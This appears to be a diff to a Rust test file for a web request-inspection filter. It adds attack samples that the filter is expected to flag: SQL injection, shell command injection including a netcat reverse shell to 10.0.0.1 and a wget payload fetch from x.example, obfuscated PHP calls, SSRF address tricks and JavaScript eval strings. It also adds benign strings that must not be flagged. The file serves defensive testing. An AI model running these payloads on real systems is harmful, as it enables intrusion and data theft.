@@ -263,6 +263,82 @@ const POSITIVE: &[(u32, &[&str])] = &[
         7008,
         &["<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"],
     ),
+    (1019, &["admin@example.com';", "x' -- c", "1\u{2019};--"]),
+    (
+        1020,
+        &[
+            "group_concat(password)",
+            "x' or sqlite_compileoption_used (id)--",
+            "1 and extractvalue(1, 0x7e)",
+        ],
+    ),
+    (1021, &["cast(", "ABS(", "database("]),
+    (
+        1022,
+        &[
+            "1 group by x having count(*) > 1",
+            "case when 1=1 then 2 end",
+            "drop table users",
+        ],
+    ),
+    (
+        4013,
+        &[
+            ";cat /etc/passwd",
+            "x && ls -la",
+            "|nc -e /bin/sh 10.0.0.1",
+            "; wget -O /tmp/z http://x.example/y",
+            "a=nc&&$a -nlvp 555",
+        ],
+    ),
+    (
+        4014,
+        &[
+            ";aptitude",
+            "x|base64 -d",
+            "&& python3 -c 1",
+            "; openssl s_client",
+        ],
+    ),
+    (
+        4017,
+        &["$[2+2]", "{,echo,#test}", "$SHELL -c id", "${cmd};", "~+"],
+    ),
+    (
+        4016,
+        &["IF /I item1==item2 CMD", "FOR /L /L %a IN (1,1,5) DO x"],
+    ),
+    (
+        5011,
+        &[
+            "$$b(2)",
+            "$__[$_[1]](7)",
+            "${@a}(10)",
+            "(sy.(st).em)('uname');",
+        ],
+    ),
+    (
+        5012,
+        &["<? php echo 1", "allow_url_include=1", "engine=true"],
+    ),
+    (
+        7009,
+        &[
+            "http://2852039166/",
+            "http://0xA9.0xFE.0xA9.0xFE/",
+            "localhost/",
+            "data:text/plain;base64,SSBsb3ZlIFBIUAo=",
+        ],
+    ),
+    (
+        7010,
+        &[
+            "while(Infinity);",
+            "__js_function",
+            "eval(String.fromCharCode(97))",
+            "require('child_process')",
+        ],
+    ),
     (
         8001,
         &[
@@ -345,6 +421,23 @@ const HONEST: &[&str] = &[
     "Is 5 > 3? Yes.",
     "password reset please",
     "My son's name is Ryan O'Neil",
+    // Prose that once looked like chained commands (German "man", "links"; "more", "|PG|").
+    "Ihre kleine Schwester ist französisches Esskulturgut; man gönnt sie sich.",
+    "Die untere Dortmunder Straße; links Haus Nr. 104",
+    "a hero; more than that",
+    "|PG|XXX Flash Sale März",
+    "Salt & pepper; fish & chips",
+    "Meet us at 10; time flies",
+    // Code people paste: method calls, jQuery, template literals, SQL.
+    "Math.abs(x) + Math.floor(y)",
+    "str.replace('a', 'b')",
+    "$('#menu').hide();",
+    "INSERT INTO t (a) VALUES (1)",
+    // Words that are also functions, in prose.
+    "The new version (2.0) is out",
+    "Please sleep (8 hours) well",
+    "import time; time.sleep(1)",
+    "Visit http://localhost:8080 for the demo",
 ];
 
 #[test]
@@ -680,4 +773,41 @@ fn a_header_is_remembered_clean_only_when_nothing_in_it_matched() {
     assert!(!req("/about", firefox).is_attack(5));
     assert!(!req("/about", firefox).is_attack(5));
     assert!(req("/.env", firefox).is_attack(5));
+}
+
+#[test]
+fn framework_lookups_prototype_paths_and_session_ids_in_names() {
+    let s = shield();
+    let with_query = |q: &str| {
+        s.inspect(&Facts {
+            method: "GET",
+            path: "/search",
+            query: Some(q),
+            headers: &[("host", b"example.nl")],
+            body: None,
+            profile: Profile::Public,
+            host_in_authority: false,
+        })
+    };
+    for (q, rule) in [
+        ("user__profile__icontains=x", 7011),
+        ("created_by__user__username__startswith=p", 7011),
+        ("a[constructor][prototype]=image", 7011),
+        ("laravel_session=eyJpdiI6IktmYw", 8002),
+    ] {
+        let got = with_query(q);
+        assert!(
+            got.rule_ids().contains(&rule) && got.is_attack(DEFAULT_THRESHOLD),
+            "{q}: {got:?}"
+        );
+    }
+    for q in [
+        "first_name=Anneke",
+        "page__size=10",
+        "sort=date",
+        "session=3",
+    ] {
+        let got = with_query(q);
+        assert!(!got.is_attack(DEFAULT_THRESHOLD), "{q}: {got:?}");
+    }
 }
